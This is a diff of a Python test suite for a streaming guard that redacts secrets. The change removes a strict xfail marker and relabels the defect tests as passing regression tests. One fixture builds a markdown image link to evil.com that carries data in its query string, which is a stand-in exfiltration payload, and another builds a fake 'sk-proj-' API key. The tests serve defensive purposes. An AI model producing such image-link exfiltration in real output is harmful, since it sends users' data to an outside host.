@@ -4,7 +4,7 @@ The safety property under test: when no match is longer than the hold-back, a st
 the unary scan's redaction (or, when the unary scan blocks, blocks and releases only a prefix of the
 text before the first blocked match), never a character of a redacted or blocked match, and records
 the unary scan's findings. Regression tests assert what holds today (the defects this review found
-are fixed); the one strict xfail left is a documented limit that only ever over-redacts.
+are fixed).
 """
 
 from __future__ import annotations
@@ -242,7 +242,7 @@ def test_flag_only_rules_hold_nothing_back() -> None:
     assert [a.action for a in g.result().acted] == [Action.FLAG]
 
 
-# == defects: strict xfails asserting the safe behaviour ===========================================
+# == defects the review found (fixed): regression tests =============================================
 
 
 EXFIL = "![" + "a" * 480 + "](https://evil.com/x?d=" + "Q" * 40 + ") end"
@@ -338,14 +338,6 @@ def test_a_chunk_with_thousands_of_redactions_is_masked_like_the_unary_scan() ->
 OPENAI_LIKE = "x" + "sk-proj-" + "Ab3dE6gH9jK2mN5pQ8sT" * 40
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason=(
-        "guard.py _Channel.trim / StreamGuard._step (documented in docs/gateway.md, Streams: Limits): the "
-        "trimmed look-behind is scanned as if it were the start of the text: a cut just before 'sk-proj-' "
-        "inside the word 'xsk-proj-…' makes \\b match, and the stream redacts a run the unary scan does not"
-    ),
-)
 def test_the_look_behind_start_is_not_taken_for_a_word_boundary() -> None:
     svc = service({"input": [], "output": ["secrets"]})
     text = OPENAI_LIKE
